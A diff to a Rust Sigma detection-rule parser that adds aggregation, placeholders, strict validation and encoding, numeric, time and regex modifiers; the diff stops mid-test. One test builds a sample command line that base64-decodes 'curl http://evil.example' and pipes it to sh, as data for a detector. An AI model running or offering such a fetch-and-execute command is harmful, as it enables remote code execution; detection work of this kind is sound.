@@ -1,6 +1,7 @@
 #![allow(clippy::result_large_err)]
 
-use crate::ast::{Branch, FieldPattern, FieldRule, NodeSimpleAnd, NodeSimpleOr};
+use crate::ast::nodes::NodeAggregation;
+use crate::ast::{FieldPattern, FieldRule, NodeSelection, NodeSimpleAnd, NodeSimpleOr, SyncBranch};
 use crate::lexer::token::{Item, Token};
 use crate::lexer::Lexer;
 use crate::parser::validate::valid_token_sequence;
@@ -9,12 +10,18 @@ use std::sync::Arc;
 use tokio::task;
 use tracing;
 
+/// Aggregation expression parsing
+pub mod aggregation;
 /// Parser error types
 pub mod error;
+/// Placeholder definitions for the `expand` modifier
+pub mod placeholder;
 /// Validation utilities for parsed rules
 pub mod validate;
 
 pub use error::ParseError;
+pub use placeholder::{PlaceholderRegistry, UnresolvedPlaceholder};
+pub use validate::StrictViolation;
 
 /// Maximum number of tokens allowed in a single rule condition
 const MAX_TOKENS: usize = 10_000;
@@ -32,8 +39,11 @@ pub struct Parser {
     previous: Option<Item>,
     sigma: Detection,
     condition: Arc<str>,
-    result: Option<Arc<dyn Branch>>,
+    result: Option<Arc<dyn SyncBranch>>,
+    aggregation: Option<Arc<NodeAggregation>>,
     no_collapse_ws: bool,
+    placeholders: Option<Arc<PlaceholderRegistry>>,
+    strict: bool,
     max_tokens: usize,
     memory_used: usize,
     max_memory: usize,
@@ -49,7 +59,10 @@ impl Parser {
             sigma,
             condition,
             result: None,
+            aggregation: None,
             no_collapse_ws,
+            placeholders: None,
+            strict: false,
             max_tokens: MAX_TOKENS,
             memory_used: 0,
             max_memory: MAX_MEMORY_BYTES,
@@ -65,13 +78,28 @@ impl Parser {
             sigma,
             condition,
             result: None,
+            aggregation: None,
             no_collapse_ws,
+            placeholders: None,
+            strict: false,
             max_tokens,
             memory_used: 0,
             max_memory: MAX_MEMORY_BYTES,
         }
     }
 
+    /// Resolve `|expand` placeholders from a registry before building matchers
+    pub fn with_placeholders(mut self, placeholders: Arc<PlaceholderRegistry>) -> Self {
+        self.placeholders = Some(placeholders);
+        self
+    }
+
+    /// Reject unknown modifiers, unused or missing identifiers and empty value lists
+    pub fn with_strict(mut self, strict: bool) -> Self {
+        self.strict = strict;
+        self
+    }
+
     /// Estimate memory usage for an Item
     fn estimate_item_size(item: &Item) -> usize {
         // Base struct size + string value size + overhead
@@ -80,9 +108,21 @@ impl Parser {
 
     /// Run the parser, collecting tokens and building the AST
     pub async fn run(&mut self) -> Result<(), ParseError> {
+        // Without definitions any placeholder is unresolved and fails the rule;
+        // only a registry set to `NoMatch` turns it into a never-matching field
+        self.sigma = match &self.placeholders {
+            Some(placeholders) => placeholders.resolve_detection(&self.sigma)?,
+            None => PlaceholderRegistry::new().resolve_detection(&self.sigma)?,
+        };
+
         // Pass 1: collect tokens and validate sequences
         self.collect().await?;
 
+        if self.strict {
+            validate::validate_strict(&self.sigma, &self.tokens)
+                .map_err(|violation| ParseError::strict_validation("", violation))?;
+        }
+
         // Pass 2: build AST from tokens
         self.parse()?;
 
@@ -177,7 +217,19 @@ impl Parser {
         // Pre-validate parentheses balance and depth
         self.validate_parentheses()?;
 
-        let result = new_branch(&self.sigma, &self.tokens, 0, self.no_collapse_ws)?;
+        // Everything after the pipe is an aggregation over the condition's matches
+        let (condition, aggregation) =
+            match self.tokens.iter().position(|t| t.token == Token::SepPipe) {
+                Some(pipe) => (&self.tokens[..pipe], Some(&self.tokens[pipe + 1..])),
+                None => (&self.tokens[..], None),
+            };
+
+        if let Some(tokens) = aggregation {
+            let node = aggregation::parse_aggregation(tokens, self.sigma.timeframe())?;
+            self.aggregation = Some(Arc::new(node));
+        }
+
+        let result = new_branch(&self.sigma, condition, 0, self.no_collapse_ws)?;
         self.result = Some(result);
         Ok(())
     }
@@ -217,10 +269,15 @@ impl Parser {
     }
 
     /// Get the resulting AST
-    pub fn result(&self) -> Option<Arc<dyn Branch>> {
+    pub fn result(&self) -> Option<Arc<dyn SyncBranch>> {
         self.result.clone()
     }
 
+    /// Get the aggregation following the condition pipe, if any
+    pub fn aggregation(&self) -> Option<Arc<NodeAggregation>> {
+        self.aggregation.clone()
+    }
+
     /// Get the parsed tokens (for debugging)
     pub fn tokens(&self) -> &[Item] {
         &self.tokens
@@ -233,7 +290,7 @@ fn new_branch(
     tokens: &[Item],
     depth: usize,
     no_collapse_ws: bool,
-) -> Result<Arc<dyn Branch>, ParseError> {
+) -> Result<Arc<dyn SyncBranch>, ParseError> {
     // Check recursion depth limit
     if depth > MAX_RECURSION_DEPTH {
         return Err(ParseError::RecursionLimitExceeded {
@@ -261,8 +318,8 @@ fn new_branch(
     let estimated_and_branches = (and_count + identifier_count / 2).max(1);
     let estimated_or_branches = (or_count + identifier_count / 3).max(1);
 
-    let mut and_branches: Vec<Arc<dyn Branch>> = Vec::with_capacity(estimated_and_branches);
-    let mut or_branches: Vec<Arc<dyn Branch>> = Vec::with_capacity(estimated_or_branches);
+    let mut and_branches: Vec<Arc<dyn SyncBranch>> = Vec::with_capacity(estimated_and_branches);
+    let mut or_branches: Vec<Arc<dyn SyncBranch>> = Vec::with_capacity(estimated_or_branches);
     let mut negated = false;
     let mut wildcard: Option<Token> = None;
 
@@ -274,9 +331,9 @@ fn new_branch(
                     .ok_or_else(|| ParseError::missing_condition_item(&item.value))?;
 
                 // Create a field rule from the identifier and value
-                let rule = create_rule_from_ident(&item.value, value, no_collapse_ws)?;
+                let rule = create_selection(&item.value, value, no_collapse_ws)?;
                 let branch = if negated {
-                    Arc::new(crate::ast::NodeNot::new(rule)) as Arc<dyn Branch>
+                    Arc::new(crate::ast::NodeNot::new(rule)) as Arc<dyn SyncBranch>
                 } else {
                     rule
                 };
@@ -305,7 +362,7 @@ fn new_branch(
                 let group_tokens = extract_group(&mut token_iter)?;
                 let branch = new_branch(detection, &group_tokens, depth + 1, no_collapse_ws)?;
                 let final_branch = if negated {
-                    Arc::new(crate::ast::NodeNot::new(branch)) as Arc<dyn Branch>
+                    Arc::new(crate::ast::NodeNot::new(branch)) as Arc<dyn SyncBranch>
                 } else {
                     branch
                 };
@@ -324,7 +381,7 @@ fn new_branch(
             Token::IdentifierAll => {
                 // Handle "all of them" or "1 of them"
                 let branches = extract_all_to_rules(detection, no_collapse_ws)?;
-                let node: Arc<dyn Branch> = match wildcard {
+                let node: Arc<dyn SyncBranch> = match wildcard {
                     Some(Token::StmtAllOf) => Arc::new(NodeSimpleAnd::new(branches)),
                     Some(Token::StmtOneOf) => Arc::new(NodeSimpleOr::new(branches)),
                     _ => return Err(ParseError::parser_error("Invalid wildcard context")),
@@ -346,7 +403,7 @@ fn new_branch(
 
                 let matching_branches =
                     extract_wildcard_idents(detection, &pattern, no_collapse_ws)?;
-                let node: Arc<dyn Branch> = match wildcard {
+                let node: Arc<dyn SyncBranch> = match wildcard {
                     Some(Token::StmtAllOf) => Arc::new(NodeSimpleAnd::new(matching_branches)),
                     Some(Token::StmtOneOf) => Arc::new(NodeSimpleOr::new(matching_branches)),
                     _ => return Err(ParseError::parser_error("Invalid wildcard context")),
@@ -415,48 +472,382 @@ where
     Err(ParseError::parser_error("Unbalanced parentheses"))
 }
 
-/// Parse field modifier from field string (e.g., "CommandLine|contains" -> ("CommandLine", Some(TextPatternModifier::Contains)))
-/// Also handles compound modifiers like "|contains|all"
-fn parse_field_modifier(field: &str) -> (&str, Option<crate::pattern::TextPatternModifier>, bool) {
-    use crate::pattern::TextPatternModifier;
+/// Modifiers parsed from a field key such as `CommandLine|base64offset|contains|all`
+#[derive(Debug, Default)]
+pub(crate) struct FieldModifiers {
+    /// Matching mode (contains, startswith, endswith, re, ...)
+    pub(crate) modifier: Option<crate::pattern::TextPatternModifier>,
+    /// Whether every value must match (`|all`)
+    pub(crate) all: bool,
+    /// Value transforms (encodings, windash) applied before matching, in key order
+    pub(crate) transforms: Vec<crate::pattern::ValueTransform>,
+    /// Numeric comparison (lt, lte, gt, gte)
+    pub(crate) comparison: Option<crate::pattern::NumComparison>,
+    /// Timestamp component to match instead of the raw value (minute, hour, day, ...)
+    pub(crate) time_part: Option<crate::pattern::TimePart>,
+    /// Match case-sensitively (`|cased`); Sigma string matches ignore case by default
+    pub(crate) cased: bool,
+    /// Regular expression flags (`|re|i`, `|re|m`, `|re|s`)
+    pub(crate) regex_flags: crate::pattern::RegexFlags,
+    /// Field presence check (`|exists`)
+    pub(crate) exists: bool,
+    /// Values name another event field to compare against (`|fieldref`)
+    pub(crate) fieldref: bool,
+    /// Values hold unresolved `%name%` placeholders (`|expand`)
+    pub(crate) expand: bool,
+    /// Modifier parts that were not recognised, as written in the rule
+    pub(crate) unknown: Vec<String>,
+}
+
+impl FieldModifiers {
+    /// Expand a rule value into the patterns produced by the value transforms
+    fn expand(&self, value: String) -> Result<Vec<String>, String> {
+        crate::pattern::apply_transforms(&self.transforms, value)
+    }
+}
+
+/// Parse field modifiers from field string (e.g., "CommandLine|contains" -> ("CommandLine", contains))
+/// Also handles compound modifiers like "|contains|all" and encodings like "|base64offset|contains"
+pub(crate) fn parse_field_modifier(field: &str) -> (&str, FieldModifiers) {
+    use crate::pattern::{NumComparison, TextPatternModifier, TimePart, ValueTransform};
+
+    let mut modifiers = FieldModifiers::default();
 
     if let Some(delimiter_pos) = field.find('|') {
         let field_name = &field[..delimiter_pos];
         let modifier_str = &field[delimiter_pos + 1..];
 
+        // Regex flags written without `|re`, kept to be reported as unknown
+        let mut stray_flags = Vec::new();
+
         // Check for compound modifiers (e.g., "contains|all")
-        let parts: Vec<&str> = modifier_str.split('|').collect();
-        let mut modifier = None;
-        let mut all_flag = false;
-
-        for part in parts {
-            match part.to_lowercase().as_str() {
-                "contains" => modifier = Some(TextPatternModifier::Contains),
-                "prefix" | "startswith" => modifier = Some(TextPatternModifier::Prefix),
-                "suffix" | "endswith" => modifier = Some(TextPatternModifier::Suffix),
-                "all" => all_flag = true,
-                "re" | "regex" => modifier = Some(TextPatternModifier::Regex),
-                "keyword" => modifier = Some(TextPatternModifier::Keyword),
-                _ => {} // Unknown modifier part, ignore
+        for raw in modifier_str.split('|') {
+            let part = raw.to_lowercase();
+            match part.as_str() {
+                "contains" => modifiers.modifier = Some(TextPatternModifier::Contains),
+                "prefix" | "startswith" => modifiers.modifier = Some(TextPatternModifier::Prefix),
+                "suffix" | "endswith" => modifiers.modifier = Some(TextPatternModifier::Suffix),
+                "all" => modifiers.all = true,
+                "re" | "regex" => modifiers.modifier = Some(TextPatternModifier::Regex),
+                "keyword" => modifiers.modifier = Some(TextPatternModifier::Keyword),
+                "cidr" => modifiers.modifier = Some(TextPatternModifier::Cidr),
+                "cased" => modifiers.cased = true,
+                "exists" => modifiers.exists = true,
+                "fieldref" => modifiers.fieldref = true,
+                "expand" => modifiers.expand = true,
+                other => {
+                    if let Some(transform) = ValueTransform::from_modifier(other) {
+                        modifiers.transforms.push(transform);
+                    } else if let Some(comparison) = NumComparison::from_modifier(other) {
+                        modifiers.comparison = Some(comparison);
+                    } else if let Some(part) = TimePart::from_modifier(other) {
+                        modifiers.time_part = Some(part);
+                    } else if modifiers.regex_flags.set_modifier(other) {
+                        stray_flags.push(raw.to_string());
+                    } else {
+                        // Ignored when matching; rejected by strict validation
+                        modifiers.unknown.push(raw.to_string());
+                    }
+                }
             }
         }
 
-        (field_name, modifier, all_flag)
+        // `i`, `m` and `s` are only flags of `|re`; elsewhere they mean nothing
+        if modifiers.modifier != Some(TextPatternModifier::Regex) {
+            modifiers.regex_flags = Default::default();
+            modifiers.unknown.extend(stray_flags);
+        }
+
+        (field_name, modifiers)
     } else {
-        (field, None, false)
+        (field, modifiers)
     }
 }
 
+/// Create a field rule for a numeric comparison modifier (lt, lte, gt, gte)
+///
+/// Values may be numbers or numeric strings, singly or as a list.
+fn create_comparison_rule(
+    field_name: &str,
+    value: &serde_json::Value,
+    comparison: crate::pattern::NumComparison,
+    all: bool,
+) -> Result<Arc<dyn SyncBranch>, ParseError> {
+    use crate::pattern::coercion::Coercible;
+
+    let values = match value {
+        serde_json::Value::Array(arr) => arr.as_slice(),
+        single => std::slice::from_ref(single),
+    };
+
+    let bounds = values
+        .iter()
+        .map(|v| {
+            v.to_float_match().ok_or_else(|| {
+                ParseError::numeric_pattern_creation_failed(
+                    field_name,
+                    v.to_string(),
+                    "value is not numeric",
+                )
+            })
+        })
+        .collect::<Result<Vec<_>, _>>()?;
+
+    let matcher =
+        crate::pattern::new_num_comparison_matcher(comparison, all, bounds).map_err(|e| {
+            ParseError::numeric_pattern_creation_failed(field_name, value.to_string(), e)
+        })?;
+
+    Ok(Arc::new(FieldRule::new(
+        Arc::from(field_name),
+        FieldPattern::Numeric {
+            matcher: Arc::from(matcher),
+            pattern_desc: Arc::from(format!("{:?} {}", comparison, value)),
+        },
+    )))
+}
+
+/// Create a field rule matching a non-integer number by value
+///
+/// Event values are coerced like the comparison modifiers do, so `1.50` and
+/// `"1.5e0"` both match `1.5`.
+fn create_float_rule(
+    field_name: &str,
+    number: &serde_json::Number,
+) -> Result<Arc<dyn SyncBranch>, ParseError> {
+    let bound = number.as_f64().ok_or_else(|| {
+        ParseError::numeric_pattern_creation_failed(
+            field_name,
+            number.to_string(),
+            "value is not numeric",
+        )
+    })?;
+    let matcher = crate::pattern::new_num_comparison_matcher(
+        crate::pattern::NumComparison::Equal,
+        false,
+        vec![bound],
+    )
+    .map_err(|e| ParseError::numeric_pattern_creation_failed(field_name, number.to_string(), e))?;
+
+    Ok(Arc::new(FieldRule::new(
+        Arc::from(field_name),
+        FieldPattern::Numeric {
+            matcher: Arc::from(matcher),
+            pattern_desc: Arc::from(number.to_string()),
+        },
+    )))
+}
+
+/// Create a field rule matching a timestamp component (`|hour`, `|day`, ...)
+///
+/// Values are the component numbers to accept, or bounds when combined with a
+/// comparison modifier such as `|hour|lt`.
+fn create_time_part_rule(
+    field_name: &str,
+    value: &serde_json::Value,
+    part: crate::pattern::TimePart,
+    modifiers: &FieldModifiers,
+) -> Result<Arc<dyn SyncBranch>, ParseError> {
+    use crate::pattern::coercion::Coercible;
+
+    let values = match value {
+        serde_json::Value::Array(arr) => arr.as_slice(),
+        single => std::slice::from_ref(single),
+    };
+    let not_numeric = |v: &serde_json::Value| {
+        ParseError::numeric_pattern_creation_failed(
+            field_name,
+            v.to_string(),
+            "time part value is not an integer",
+        )
+    };
+
+    let (matcher, pattern_desc) = match modifiers.comparison {
+        Some(comparison) => {
+            let bounds = values
+                .iter()
+                .map(|v| v.to_float_match().ok_or_else(|| not_numeric(v)))
+                .collect::<Result<Vec<_>, _>>()?;
+            let matcher =
+                crate::pattern::new_num_comparison_matcher(comparison, modifiers.all, bounds);
+            (matcher, format!("{:?} {:?} {}", part, comparison, value))
+        }
+        None => {
+            let parts = values
+                .iter()
+                .map(|v| v.to_int_match().ok_or_else(|| not_numeric(v)))
+                .collect::<Result<Vec<_>, _>>()?;
+            let matcher = crate::pattern::new_num_matcher(parts);
+            (matcher, format!("{:?} {}", part, value))
+        }
+    };
+    let matcher = matcher.map_err(|e| {
+        ParseError::numeric_pattern_creation_failed(field_name, value.to_string(), e)
+    })?;
+
+    Ok(Arc::new(FieldRule::new(
+        Arc::from(field_name),
+        FieldPattern::TimePart {
+            part,
+            matcher: Arc::from(matcher),
+            pattern_desc: Arc::from(pattern_desc),
+        },
+    )))
+}
+
+/// Create a field rule comparing a field against other event fields (`|fieldref`)
+///
+/// Several referenced fields are alternatives, or all required with `|all`.
+fn create_field_ref_rule(
+    field_name: &str,
+    value: &serde_json::Value,
+    modifiers: &FieldModifiers,
+) -> Result<Arc<dyn SyncBranch>, ParseError> {
+    use crate::pattern::{FieldRefPattern, TextPatternModifier};
+
+    let values = match value {
+        serde_json::Value::Array(arr) => arr.as_slice(),
+        single => std::slice::from_ref(single),
+    };
+
+    let branches = values
+        .iter()
+        .map(|v| {
+            let reference = v.as_str().ok_or_else(|| {
+                ParseError::field_pattern_creation_failed(
+                    field_name,
+                    v.to_string(),
+                    "fieldref requires a field name",
+                )
+            })?;
+            let pattern = FieldRefPattern::new(
+                reference,
+                modifiers.modifier.unwrap_or(TextPatternModifier::None),
+                !modifiers.cased,
+            )
+            .map_err(|e| ParseError::field_pattern_creation_failed(field_name, reference, e))?;
+
+            Ok(Arc::new(FieldRule::new(
+                Arc::from(field_name),
+                FieldPattern::FieldRef(pattern),
+            )) as Arc<dyn SyncBranch>)
+        })
+        .collect::<Result<Vec<_>, ParseError>>()?;
+
+    let reduced = if modifiers.all {
+        NodeSimpleAnd::new(branches).reduce()
+    } else {
+        NodeSimpleOr::new(branches).reduce()
+    };
+    reduced.map_err(|e| ParseError::parser_error(e.to_string()))
+}
+
+/// Create a field rule matching regular expressions (`|re`) with their flags
+fn create_regex_rule(
+    field_name: &str,
+    value: &serde_json::Value,
+    modifiers: &FieldModifiers,
+    no_collapse_ws: bool,
+) -> Result<Arc<dyn SyncBranch>, ParseError> {
+    let values = match value {
+        serde_json::Value::Array(arr) => arr.as_slice(),
+        single => std::slice::from_ref(single),
+    };
+
+    let patterns = values
+        .iter()
+        .map(|v| match v {
+            serde_json::Value::String(s) => Ok(process_string_value(s, no_collapse_ws)),
+            serde_json::Value::Number(_) | serde_json::Value::Bool(_) => Ok(v.to_string()),
+            _ => Err(ParseError::string_pattern_creation_failed(
+                field_name,
+                v.to_string(),
+                "regex requires a string value",
+            )),
+        })
+        .collect::<Result<Vec<_>, _>>()?;
+    let pattern_desc = patterns.join(" | ");
+
+    let matcher = crate::pattern::new_regex_matcher(modifiers.regex_flags, modifiers.all, patterns)
+        .map_err(|e| ParseError::string_pattern_creation_failed(field_name, &pattern_desc, e))?;
+
+    Ok(Arc::new(FieldRule::new(
+        Arc::from(field_name),
+        FieldPattern::String {
+            matcher: Arc::from(matcher),
+            pattern_desc: Arc::from(pattern_desc),
+        },
+    )))
+}
+
+/// Create the branch for a detection identifier, keeping its name so match
+/// explanations can report which selection matched
+fn create_selection(
+    ident: &str,
+    value: &serde_json::Value,
+    no_collapse_ws: bool,
+) -> Result<Arc<dyn SyncBranch>, ParseError> {
+    let branch = create_rule_from_ident(ident, value, no_collapse_ws)?;
+    Ok(Arc::new(NodeSelection::new(ident, branch)))
+}
+
 /// Create a field rule from an identifier and value
 fn create_rule_from_ident(
     field: &str,
     value: &serde_json::Value,
     no_collapse_ws: bool,
-) -> Result<Arc<dyn Branch>, ParseError> {
-    use crate::pattern::{new_num_matcher, new_string_matcher, TextPatternModifier};
+) -> Result<Arc<dyn SyncBranch>, ParseError> {
+    use crate::pattern::{
+        new_expanded_string_matcher, new_num_matcher, new_string_matcher, TextPatternModifier,
+    };
+
+    // Parse field and modifiers
+    let (field_name, modifiers) = parse_field_modifier(field);
+    let modifier = modifiers.modifier;
+    let all_flag = modifiers.all;
+    let lowercase = !modifiers.cased;
+
+    // Resolved placeholders drop `expand`; any left here went unresolved
+    // under `UnresolvedPlaceholder::NoMatch` and have no values
+    if modifiers.expand {
+        return Ok(Arc::new(FieldRule::new(
+            Arc::from(field_name),
+            FieldPattern::String {
+                matcher: Arc::new(crate::pattern::StringMatchers::new(Vec::new())),
+                pattern_desc: Arc::from(format!("unresolved placeholder {}", value)),
+            },
+        )));
+    }
 
-    // Parse field and modifier
-    let (field_name, modifier, all_flag) = parse_field_modifier(field);
+    if modifiers.exists {
+        return match value {
+            serde_json::Value::Bool(exists) => Ok(Arc::new(FieldRule::new(
+                Arc::from(field_name),
+                FieldPattern::Exists(*exists),
+            ))),
+            _ => Err(ParseError::field_pattern_creation_failed(
+                field_name,
+                value.to_string(),
+                "exists modifier requires a boolean value",
+            )),
+        };
+    }
+
+    if let Some(part) = modifiers.time_part {
+        return create_time_part_rule(field_name, value, part, &modifiers);
+    }
+
+    if let Some(comparison) = modifiers.comparison {
+        return create_comparison_rule(field_name, value, comparison, all_flag);
+    }
+
+    if modifiers.fieldref {
+        return create_field_ref_rule(field_name, value, &modifiers);
+    }
+
+    if modifier == Some(TextPatternModifier::Regex) {
+        return create_regex_rule(field_name, value, &modifiers, no_collapse_ws);
+    }
 
     // Handle different value types
     match value {
@@ -464,16 +855,24 @@ fn create_rule_from_ident(
             let processed = process_string_value(s, no_collapse_ws);
             let final_modifier = modifier.unwrap_or(TextPatternModifier::None);
 
-            let matcher = new_string_matcher(
-                final_modifier,
-                false,    // lowercase
-                all_flag, // use parsed all flag
-                no_collapse_ws,
-                vec![processed.clone()],
-            )
-            .map_err(|e| {
-                ParseError::string_pattern_creation_failed(field_name, &processed, e.to_string())
-            })?;
+            let matcher = modifiers
+                .expand(processed.clone())
+                .and_then(|patterns| {
+                    new_expanded_string_matcher(
+                        final_modifier,
+                        lowercase,
+                        all_flag, // use parsed all flag
+                        no_collapse_ws,
+                        vec![patterns],
+                    )
+                })
+                .map_err(|e| {
+                    ParseError::string_pattern_creation_failed(
+                        field_name,
+                        &processed,
+                        e.to_string(),
+                    )
+                })?;
 
             Ok(Arc::new(FieldRule::new(
                 Arc::from(field_name),
@@ -500,11 +899,13 @@ fn create_rule_from_ident(
                         pattern_desc: Arc::from(n.to_string()),
                     },
                 )))
+            } else if n.is_f64() {
+                create_float_rule(field_name, n)
             } else {
-                // Fall back to string matching for floats
+                // Fall back to string matching for integers beyond i64
                 let matcher = new_string_matcher(
                     TextPatternModifier::None,
-                    false,    // lowercase
+                    lowercase,
                     all_flag, // use parsed all flag
                     no_collapse_ws,
                     vec![n.to_string()],
@@ -530,7 +931,7 @@ fn create_rule_from_ident(
             let str_val = b.to_string();
             let matcher = new_string_matcher(
                 TextPatternModifier::None,
-                false,    // lowercase
+                lowercase,
                 all_flag, // use parsed all flag
                 no_collapse_ws,
                 vec![str_val.clone()],
@@ -549,7 +950,7 @@ fn create_rule_from_ident(
         }
         serde_json::Value::Array(arr) => {
             // Handle array of values
-            let mut branches: Vec<Arc<dyn Branch>> = Vec::new();
+            let mut branches: Vec<Arc<dyn SyncBranch>> = Vec::new();
             let mut errors: Vec<String> = Vec::new();
             let mut string_patterns: Vec<String> = Vec::new();
             let mut has_mixed_types = false;
@@ -571,13 +972,19 @@ fn create_rule_from_ident(
             // If all values are strings and we have the all flag, create a single conjunction matcher
             if !has_mixed_types && !string_patterns.is_empty() && all_flag {
                 let final_modifier = modifier.unwrap_or(TextPatternModifier::None);
-                match new_string_matcher(
-                    final_modifier,
-                    false, // lowercase
-                    true,  // all flag - require all patterns
-                    no_collapse_ws,
-                    string_patterns,
-                ) {
+                let expanded = string_patterns
+                    .into_iter()
+                    .map(|pattern| modifiers.expand(pattern))
+                    .collect::<Result<Vec<_>, _>>();
+                match expanded.and_then(|patterns| {
+                    new_expanded_string_matcher(
+                        final_modifier,
+                        lowercase,
+                        true, // all flag - require all patterns
+                        no_collapse_ws,
+                        patterns,
+                    )
+                }) {
                     Ok(matcher) => {
                         return Ok(Arc::new(FieldRule::new(
                             Arc::from(field_name),
@@ -604,13 +1011,15 @@ fn create_rule_from_ident(
                         let processed = process_string_value(s, no_collapse_ws);
                         let final_modifier = modifier.unwrap_or(TextPatternModifier::None);
 
-                        match new_string_matcher(
-                            final_modifier,
-                            false,    // lowercase
-                            all_flag, // use parsed all flag
-                            no_collapse_ws,
-                            vec![processed.clone()],
-                        ) {
+                        match modifiers.expand(processed.clone()).and_then(|patterns| {
+                            new_expanded_string_matcher(
+                                final_modifier,
+                                lowercase,
+                                all_flag, // use parsed all flag
+                                no_collapse_ws,
+                                vec![patterns],
+                            )
+                        }) {
                             Ok(matcher) => {
                                 branches.push(Arc::new(FieldRule::new(
                                     Arc::from(field_name),
@@ -619,7 +1028,7 @@ fn create_rule_from_ident(
                                         pattern_desc: Arc::from(processed),
                                     },
                                 ))
-                                    as Arc<dyn Branch>);
+                                    as Arc<dyn SyncBranch>);
                             }
                             Err(e) => {
                                 errors.push(format!(
@@ -640,7 +1049,7 @@ fn create_rule_from_ident(
                                             pattern_desc: Arc::from(n.to_string()),
                                         },
                                     ))
-                                        as Arc<dyn Branch>);
+                                        as Arc<dyn SyncBranch>);
                                 }
                                 Err(e) => {
                                     errors.push(format!(
@@ -649,10 +1058,15 @@ fn create_rule_from_ident(
                                     ));
                                 }
                             }
+                        } else if n.is_f64() {
+                            match create_float_rule(field_name, n) {
+                                Ok(branch) => branches.push(branch),
+                                Err(e) => errors.push(e.to_string()),
+                            }
                         } else {
                             match new_string_matcher(
                                 TextPatternModifier::None,
-                                false,    // lowercase
+                                lowercase,
                                 all_flag, // use parsed all flag
                                 no_collapse_ws,
                                 vec![n.to_string()],
@@ -665,7 +1079,7 @@ fn create_rule_from_ident(
                                             pattern_desc: Arc::from(n.to_string()),
                                         },
                                     ))
-                                        as Arc<dyn Branch>);
+                                        as Arc<dyn SyncBranch>);
                                 }
                                 Err(e) => {
                                     errors.push(format!(
@@ -680,7 +1094,7 @@ fn create_rule_from_ident(
                         let str_val = b.to_string();
                         match new_string_matcher(
                             TextPatternModifier::None,
-                            false,    // lowercase
+                            lowercase,
                             all_flag, // use parsed all flag
                             no_collapse_ws,
                             vec![str_val.clone()],
@@ -693,7 +1107,7 @@ fn create_rule_from_ident(
                                         pattern_desc: Arc::from(str_val),
                                     },
                                 ))
-                                    as Arc<dyn Branch>);
+                                    as Arc<dyn SyncBranch>);
                             }
                             Err(e) => {
                                 errors.push(format!(
@@ -716,31 +1130,11 @@ fn create_rule_from_ident(
                         }
                     }
                     serde_json::Value::Null => {
-                        // Handle null values as empty string matches
-                        match new_string_matcher(
-                            TextPatternModifier::None,
-                            false,    // lowercase
-                            all_flag, // use parsed all flag
-                            no_collapse_ws,
-                            vec!["".to_string()],
-                        ) {
-                            Ok(matcher) => {
-                                branches.push(Arc::new(FieldRule::new(
-                                    Arc::from(field_name),
-                                    FieldPattern::String {
-                                        matcher: Arc::from(matcher),
-                                        pattern_desc: Arc::from("null"),
-                                    },
-                                ))
-                                    as Arc<dyn Branch>);
-                            }
-                            Err(e) => {
-                                errors.push(format!(
-                                    "Failed to create string matcher for null: {}",
-                                    e
-                                ));
-                            }
-                        }
+                        // null matches a missing or null field
+                        branches.push(Arc::new(FieldRule::new(
+                            Arc::from(field_name),
+                            FieldPattern::Exists(false),
+                        )) as Arc<dyn SyncBranch>);
                     }
                     _ => {
                         errors.push(format!("Unsupported value type in array: {:?}", v));
@@ -773,11 +1167,11 @@ fn create_rule_from_ident(
             // Handle complex field definitions
             create_complex_field_rule(field, obj, no_collapse_ws)
         }
-        _ => Err(ParseError::field_pattern_creation_failed(
-            field,
-            &format!("{:?}", value),
-            "Unsupported value type for field rule",
-        )),
+        // null matches a missing or null field
+        serde_json::Value::Null => Ok(Arc::new(FieldRule::new(
+            Arc::from(field_name),
+            FieldPattern::Exists(false),
+        ))),
     }
 }
 
@@ -796,11 +1190,11 @@ fn create_complex_field_rule(
     field: &str,
     obj: &serde_json::Map<String, serde_json::Value>,
     no_collapse_ws: bool,
-) -> Result<Arc<dyn Branch>, ParseError> {
+) -> Result<Arc<dyn SyncBranch>, ParseError> {
     // For object definitions, we create field rules directly from the object's properties
     // This handles cases like: "selection": { "EventID": 4688, "Process": "cmd.exe" }
     // AND cases where field names contain modifiers: { "CommandLine|contains|all": [...] }
-    let mut branches: Vec<Arc<dyn Branch>> = Vec::new();
+    let mut branches: Vec<Arc<dyn SyncBranch>> = Vec::new();
     let mut errors: Vec<String> = Vec::new();
 
     for (key, value) in obj.iter() {
@@ -837,12 +1231,12 @@ fn create_complex_field_rule(
 fn extract_all_to_rules(
     detection: &Detection,
     no_collapse_ws: bool,
-) -> Result<Vec<Arc<dyn Branch>>, ParseError> {
+) -> Result<Vec<Arc<dyn SyncBranch>>, ParseError> {
     let mut rules = Vec::new();
     let extracted = detection.extract();
 
     for (key, value) in extracted.iter() {
-        let rule = create_rule_from_ident(key, value, no_collapse_ws)?;
+        let rule = create_selection(key, value, no_collapse_ws)?;
         rules.push(rule);
     }
 
@@ -861,12 +1255,12 @@ fn extract_wildcard_idents(
     detection: &Detection,
     pattern: &glob::Pattern,
     no_collapse_ws: bool,
-) -> Result<Vec<Arc<dyn Branch>>, ParseError> {
+) -> Result<Vec<Arc<dyn SyncBranch>>, ParseError> {
     let mut rules = Vec::new();
 
     for (key, value) in detection.iter() {
         if key != "condition" && pattern.matches(key) {
-            let rule = create_rule_from_ident(key, value, no_collapse_ws)?;
+            let rule = create_selection(key, value, no_collapse_ws)?;
             rules.push(rule);
         }
     }
@@ -883,6 +1277,7 @@ fn extract_wildcard_idents(
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::ast::Branch;
     use crate::rule::Detection;
 
     #[tokio::test]
@@ -1041,6 +1436,499 @@ mod tests {
         assert!(parser.result().is_some());
     }
 
+    /// Build the branch for a single `selection` identifier
+    async fn parse_selection(selection: serde_json::Value) -> Arc<dyn SyncBranch> {
+        let mut detection = Detection::new();
+        detection.insert("condition".to_string(), serde_json::json!("selection"));
+        detection.insert("selection".to_string(), selection);
+
+        let mut parser = Parser::new(detection, false);
+        parser.run().await.expect("selection should parse");
+        parser.result().expect("parser should produce a branch")
+    }
+
+    async fn matches(branch: &Arc<dyn SyncBranch>, event: serde_json::Value) -> bool {
+        branch
+            .matches(&crate::event::DynamicEvent::new(event))
+            .await
+            .matched
+    }
+
+    #[tokio::test]
+    async fn test_parser_with_encoding_modifiers() {
+        use base64::Engine;
+        let encode = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
+
+        let branch = parse_selection(serde_json::json!({
+            "CommandLine|base64offset|contains": "http://"
+        }))
+        .await;
+        for prefix in ["", "x", "xy"] {
+            let payload = format!("{}curl http://evil.example", prefix);
+            let event = serde_json::json!({
+                "CommandLine": format!("sh -c \"echo {} | base64 -d | sh\"", encode(&payload))
+            });
+            assert!(matches(&branch, event).await, "offset {}", prefix.len());
+        }
